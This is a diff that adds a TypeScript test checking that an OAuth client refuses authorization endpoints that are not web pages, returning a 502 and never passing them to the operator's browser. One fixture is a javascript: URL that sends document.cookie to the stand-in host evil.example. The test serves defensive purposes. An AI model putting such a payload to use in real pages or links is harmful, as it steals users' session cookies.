@@ -334,6 +334,23 @@ describe("OAuth servers gone wrong", () => {
     expect(await messageOf(answer)).toMatch(/\(metadata\) failed .*http\.metadata/);
   });
 
+  it("an authorization endpoint that is not a web page never reaches the operator's browser", async () => {
+    for (const [name, endpoint] of <Array<[string, string]>>[
+      ["script-endpoint", "javascript:fetch('//evil.example/'+document.cookie)"],
+      ["app-endpoint", "ms-settings:privacy"],
+    ]) {
+      const server = await scripted({
+        metadata: (base) => ({ ...goodMetadata(base), authorization_endpoint: endpoint }),
+      });
+      await register(name, `${server.base}/mcp`);
+      const answer = await connect(name);
+      expect(answer.status).toBe(502);
+      const body = await answer.text();
+      expect(body).toMatch(/\(metadata\) failed/);
+      expect(body).not.toContain("authorizationUrl");
+    }
+  });
+
   it("an authorization server without PKCE S256 is refused at the metadata step", async () => {
     const server = await scripted({
       metadata: (base) => ({ ...goodMetadata(base), code_challenge_methods_supported: ["plain"] }),
